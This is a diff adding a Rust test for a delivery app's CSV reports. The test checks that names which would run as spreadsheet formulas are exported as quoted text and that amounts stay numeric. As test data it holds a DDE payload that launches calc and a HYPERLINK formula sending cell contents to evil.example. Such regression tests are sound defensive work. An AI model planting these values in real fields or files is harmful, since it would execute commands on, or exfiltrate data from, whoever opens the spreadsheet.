@@ -875,3 +875,72 @@ async fn lost_clients_rows_carry_the_client_and_an_open_order_takes_a_client_off
         .await
         .contains_key(&l.ids["lost"]));
 }
+
+/// Names typed by people reach the managers' spreadsheets: a text cell that a
+/// spreadsheet would run as a formula is marked as text, figures stay numbers.
+#[tokio::test]
+async fn csv_exports_neutralise_spreadsheet_formulas() {
+    let app = spawn_app().await;
+    let (_, manager) = app.user("mira", "manager", None).await;
+    let (_, op) = app.user("olga", "operator", None).await;
+    let (courier, _) = app.user("kolya", "courier", None).await;
+    app.patch(
+        &format!("/api/users/{courier}"),
+        &app.admin,
+        json!({ "name": "@SUM(1+1)*cmd|' /C calc'!A0" }),
+    )
+    .await
+    .ok();
+    let water = app.product("W19", "water", 25000, true).await;
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?x\"&A1,\"Click\")",
+        "+7 cmd",
+        "-2+3",
+    ];
+    let mut ids = vec![];
+    for (i, name) in evil.iter().enumerate() {
+        let (client, addr) = app
+            .client(name, "individual", &format!("+7916123450{i}"))
+            .await;
+        placed(
+            &app,
+            &op,
+            &client,
+            &addr,
+            &app.today(),
+            json!([{ "product_id": water, "qty": 1 + i }]),
+            Some(&courier),
+            &["dispatch", "deliver"],
+        )
+        .await;
+        ids.push(client);
+    }
+    let today = app.today();
+    let path = format!("/api/reports/deliveries?from={today}&to={today}&format=csv");
+    let text = csv(&app, &manager, &path).await;
+    let mut reader = ::csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let mut names = BTreeSet::new();
+    let mut amount = 0;
+    for row in reader.records() {
+        let row = row.expect("csv row");
+        assert_eq!(&row[1], "'@SUM(1+1)*cmd|' /C calc'!A0", "courier name");
+        names.insert(row[3].to_string());
+        amount += row[7].parse::<i64>().expect("amount is a plain number");
+    }
+    let want: BTreeSet<String> = evil.iter().map(|n| format!("'{n}")).collect();
+    assert_eq!(names, want);
+    assert_eq!(amount, 25000 * (1 + 2 + 3));
+    // JSON keeps the names as typed.
+    let json_r = app
+        .get(
+            &format!("/api/reports/deliveries?from={today}&to={today}"),
+            &manager,
+        )
+        .await
+        .ok();
+    assert!(json_r["rows"]
+        .as_array()
+        .expect("rows")
+        .iter()
+        .any(|r| r["client_name"] == evil[0]));
+}
